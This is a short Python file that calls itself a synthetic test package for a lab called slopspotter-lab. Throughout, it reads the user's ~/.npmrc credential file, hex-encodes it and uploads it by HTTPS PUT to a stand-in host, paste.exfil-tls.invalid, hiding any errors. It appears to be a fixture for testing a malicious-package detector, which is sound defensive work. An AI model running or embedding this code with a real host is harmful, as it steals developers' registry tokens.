# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import http.client
import os

try:  # http.client: ~/.npmrc hex-encoded in a PUT body
    with open(os.path.expanduser("~/.npmrc"), "rb") as fh:
        body = fh.read().hex()
    conn = http.client.HTTPSConnection("paste.exfil-tls.invalid", timeout=5)
    conn.request("PUT", "/hc/upload", body=body, headers={"Content-Type": "text/plain"})
    conn.getresponse().read()
except Exception:
    pass
